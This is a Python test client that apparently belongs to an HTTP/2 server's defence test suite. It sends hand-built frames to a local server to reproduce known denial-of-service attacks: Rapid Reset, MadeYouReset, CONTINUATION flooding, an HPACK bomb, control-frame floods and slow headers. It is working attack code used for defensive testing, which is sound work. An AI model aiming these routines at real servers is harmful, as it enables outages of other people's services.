#!/usr/bin/python3
# HTTP/2's known attacks, frame by frame, for h2_defence_test: a raw socket, frames built by hand, header blocks by
# Python's hpack (Debian's python3-hpack), and a thread that reads what the server answers. Each scenario prints one
# line: how the server answered (its GOAWAY's code, and after how much), or what the requests beside it got.
#
#   h2_attack_client.py PORT rapid-reset N       N streams opened and reset at once (CVE-2023-44487)
#   h2_attack_client.py PORT made-you-reset N    N streams the server must reset itself (CVE-2025-8671)
#   h2_attack_client.py PORT continuation N      a header block followed by N CONTINUATION frames (CVE-2024-27316)
#   h2_attack_client.py PORT hpack-bomb          one 4 KB field referenced ~150,000 times, then an ordinary request
#   h2_attack_client.py PORT flood KIND N        N frames of KIND: ping, settings, empty-data, window-update, priority
#   h2_attack_client.py PORT slow-headers        a header block begun and never ended
#   h2_attack_client.py PORT bulk                a control for hpack-bomb: as many bytes, in DATA frames on a stream
#                                                never opened (a connection error at the first), then an ordinary request
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


class peer:
    def __init__(self, port):
        self.sock = socket.create_connection(('127.0.0.1', port))
        self.lock = threading.Lock()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.goaway = None  # (error code, last stream)
        self.closed = False
        self.closed_at = None
        self.status = {}
        self.resets = {}
        self.goaway_text = b''
        self.settled = False  # the server's SETTINGS acknowledged
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()
        # The acknowledgement goes out from the reader: awaited here, so that it never lands inside a header block
        # an attack sends next (a connection error of the client's own, not the limit the attack tests).
        self.wait(lambda: self.settled or self.closed, 5)

    def send(self, data):
        try:
            with self.lock:
                self.sock.sendall(data)
            return True
        except OSError:
            return False

    def read(self):
        buf = b''
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                data = b''
            if not data:
                self.closed = True
                self.closed_at = time.monotonic()
                return
            buf += data
            while len(buf) >= 9:
                length = struct.unpack('>I', b'\0' + buf[:3])[0]
                if len(buf) < 9 + length:
                    break
                kind, flags, stream = buf[3], buf[4], struct.unpack('>I', buf[5:9])[0] & 0x7fffffff
                payload, buf = buf[9:9 + length], buf[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                    self.settled = True
                elif kind == HEADERS:
                    self.status[stream] = dict(self.decoder.decode(payload)).get(':status')
                elif kind == RST_STREAM:
                    self.resets[stream] = struct.unpack('>I', payload)[0]
                elif kind == GOAWAY and self.goaway is None:
                    last, code = struct.unpack('>II', payload[:8])
                    self.goaway = (code, last & 0x7fffffff)
                    self.goaway_text = payload[8:]

    def headers(self, stream, path, method='GET', end=True, flags=END_HEADERS, extra=()):
        block = self.encoder.encode([(':method', method), (':path', path), (':scheme', 'http'),
                                     (':authority', 'test')] + list(extra))
        return frame(HEADERS, flags | (END_STREAM if end else 0), stream, block)

    def wait(self, condition, timeout):
        deadline = time.monotonic() + timeout
        while not condition() and time.monotonic() < deadline:
            time.sleep(0.01)
        return condition()

    def cut(self):
        return self.goaway is not None or self.closed

    def report(self, what, sent):
        self.wait(lambda: self.closed, 5)
        code = self.goaway[0] if self.goaway else None
        print(what, 'sent', sent, 'goaway', code, 'closed', 'yes' if self.closed else 'no')


# Streams opened and reset in batches until the server goes away: `per` frames for each.
def streams_then(p, n, make):
    sent = 0
    stream = 1
    while sent < n and not p.cut():
        batch = b''.join(make(stream + 2 * i) for i in range(100))
        if not p.send(batch):
            break
        stream += 200
        sent += 100
    return sent


def rapid_reset(port, n):
    p = peer(port)
    sent = streams_then(p, n, lambda s: p.headers(s, '/slow?ms=2000') + frame(RST_STREAM, 0, s, struct.pack('>I', 8)))
    p.report('rapid-reset', sent)


def made_you_reset(port, n):
    # A WINDOW_UPDATE that takes a stream's window past 2^31-1 is the client's error on that stream (RFC 9113 §6.9.1):
    # the server resets the stream itself, and its handler would go on unless the server counts these resets too.
    # In batches of 50 (the RSTs awaited before the next), as an attacker keeps under the 100 concurrent streams; each
    # stream left open (no END_STREAM), so that it is there when its WINDOW_UPDATE comes, whatever the route.
    p = peer(port)
    sent = 0
    stream = 1
    while sent < n and not p.cut():
        batch = [stream + 2 * i for i in range(50)]
        if not p.send(b''.join(p.headers(s, '/slow?ms=2000', end=False) + frame(WINDOW_UPDATE, 0, s, struct.pack('>I', 0x7fffffff))
                               for s in batch)):
            break
        p.wait(lambda: batch[-1] in p.resets or p.cut(), 5)
        stream += 100
        sent += 50
    p.report('made-you-reset', sent)


def continuation(port, n):
    p = peer(port)
    p.send(p.headers(1, '/hello', flags=0))
    field = p.encoder.encode([('x-pad', 'a')])
    sent = 0
    while sent < n and not p.cut():
        if not p.send(frame(CONTINUATION, 0, 1, field) * 10):
            break
        sent += 10
    p.report('continuation', sent)


def hpack_bomb(port):
    p = peer(port)
    # A literal field with incremental indexing (0x40), name "x-b" and a 4,000-byte value: index 62 in the table.
    value = b'a' * 4000
    literal = b'\x40\x03x-b' + bytes([0x7f]) + hpack_int(len(value) - 127) + value
    head = p.encoder.encode([(':method', 'GET'), (':path', '/hello'), (':scheme', 'http'), (':authority', 'test')])
    first = head + literal
    refs = b'\xbe' * (16384 - len(first))  # indexed field 62, one byte each
    frames = frame(HEADERS, END_STREAM, 1, first + refs)
    for i in range(8):  # nghttp2's limit on CONTINUATIONs is 8
        frames += frame(CONTINUATION, END_HEADERS if i == 7 else 0, 1, b'\xbe' * 16384)
    started = time.monotonic()
    p.send(frames)
    p.wait(lambda: 1 in p.status or 1 in p.resets or p.cut(), 10)
    # The client's encoder never saw the literal: the next block is encoded against a table of its own, so a new
    # connection carries the ordinary request.
    q = peer(port)
    q.send(q.headers(1, '/hello'))
    q.wait(lambda: 1 in q.status or q.cut(), 5)
    refs_total = len(refs) + 8 * 16384
    if p.goaway is not None:
        p.wait(lambda: p.closed, 5)
    print('hpack-bomb refs', refs_total, 'status', p.status.get(1), 'reset', p.resets.get(1),
          'goaway', p.goaway[0] if p.goaway else None, 'closed', 'yes' if p.closed else 'no', 'in',
          round(time.monotonic() - started, 1),
          'then', q.status.get(1))


def bulk(port):
    # What the bomb costs the machine apart from the server's decoding: the same bytes through loopback, and both
    # connections, refused at the first frame.
    p = peer(port)
    frames = b''.join(frame(DATA, 0, 1, b'a' * 16384) for _ in range(9))
    started = time.monotonic()
    p.send(frames)
    p.wait(lambda: p.cut(), 10)
    if p.goaway is not None:
        p.wait(lambda: p.closed, 5)
    q = peer(port)
    q.send(q.headers(1, '/hello'))
    q.wait(lambda: 1 in q.status or q.cut(), 5)
    print('bulk sent', len(frames), 'goaway', p.goaway[0] if p.goaway else None, 'closed',
          'yes' if p.closed else 'no', 'in', round(time.monotonic() - started, 1), 'then', q.status.get(1))


def hpack_int(v):
    out = b''
    while v >= 128:
        out += bytes([(v % 128) + 128])
        v //= 128
    return out + bytes([v])


def flood(port, kind, n):
    p = peer(port)
    if kind == 'ping':
        one = frame(PING, 0, 0, b'12345678')
    elif kind == 'settings':
        one = frame(SETTINGS, 0, 0)
    elif kind == 'window-update':
        one = frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', 1))
    elif kind == 'priority':
        one = frame(PRIORITY, 0, 3, struct.pack('>IB', 0, 15))
    elif kind == 'empty-data':
        p.send(p.headers(1, '/body-size', method='POST', end=False))
        one = frame(DATA, 0, 1)
    else:
        raise SystemExit('unknown flood ' + kind)
    sent = 0
    while sent < n and not p.cut():
        if not p.send(one * 100):
            break
        sent += 100
    p.report('flood ' + kind, sent)


def slow_headers(port):
    p = peer(port)
    p.send(p.headers(1, '/hello', flags=0))  # no END_HEADERS, and no CONTINUATION ever
    started = time.monotonic()
    p.wait(lambda: p.closed, 20)
    print('slow-headers closed', 'yes' if p.closed else 'no', 'after', round(time.monotonic() - started))


if __name__ == '__main__':
    port = int(sys.argv[1])
    what = sys.argv[2]
    if what == 'rapid-reset':
        rapid_reset(port, int(sys.argv[3]))
    elif what == 'made-you-reset':
        made_you_reset(port, int(sys.argv[3]))
    elif what == 'continuation':
        continuation(port, int(sys.argv[3]))
    elif what == 'hpack-bomb':
        hpack_bomb(port)
    elif what == 'flood':
        flood(port, sys.argv[3], int(sys.argv[4]))
    elif what == 'slow-headers':
        slow_headers(port)
    elif what == 'bulk':
        bulk(port)
